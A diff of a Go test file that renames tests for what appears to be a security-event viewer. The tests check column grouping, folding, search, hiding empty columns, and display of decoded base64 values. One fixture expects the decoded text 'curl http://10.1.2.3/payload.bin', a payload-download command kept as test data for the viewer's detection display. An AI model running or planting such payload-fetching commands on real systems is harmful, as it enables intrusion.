@@ -51,7 +51,7 @@ func wants(t *testing.T, m *record.Model, texts ...string) {
 	}
 }
 
-func TestColumnsStandInGroups(t *testing.T) {
+func TestColumnsAreGrouped(t *testing.T) {
 	m := shown(event(), 80, 40)
 	view := m.View()
 	last := -1
@@ -85,7 +85,7 @@ func TestPartsFoldAndStayFoldedInTheNextRow(t *testing.T) {
 	wants(t, m, "Level: High")
 }
 
-func TestHiddenTextStandsBelowItsValue(t *testing.T) {
+func TestDecodedTextIsShownBelowItsValue(t *testing.T) {
 	m := shown(event(), 80, 60)
 	wants(t, m, "in base64", "curl http://10.1.2.3/payload.bin")
 	find(m, "curl")
@@ -126,7 +126,7 @@ func TestValuesGoIntoTheQuery(t *testing.T) {
 	}
 }
 
-func TestWhatIsEmptyCanBeHidden(t *testing.T) {
+func TestEmptyColumnsCanBeHidden(t *testing.T) {
 	m := shown(event(), 80, 60)
 	wants(t, m, "AccountName", "Verdict")
 	press(m, "e")
@@ -136,7 +136,7 @@ func TestWhatIsEmptyCanBeHidden(t *testing.T) {
 	wants(t, m, "2 empty columns hidden")
 }
 
-func TestSearchGoesThroughAllFinds(t *testing.T) {
+func TestSearchVisitsAllMatches(t *testing.T) {
 	m := shown(event(), 80, 12)
 	find(m, "10.1.2.3")
 	var found []string
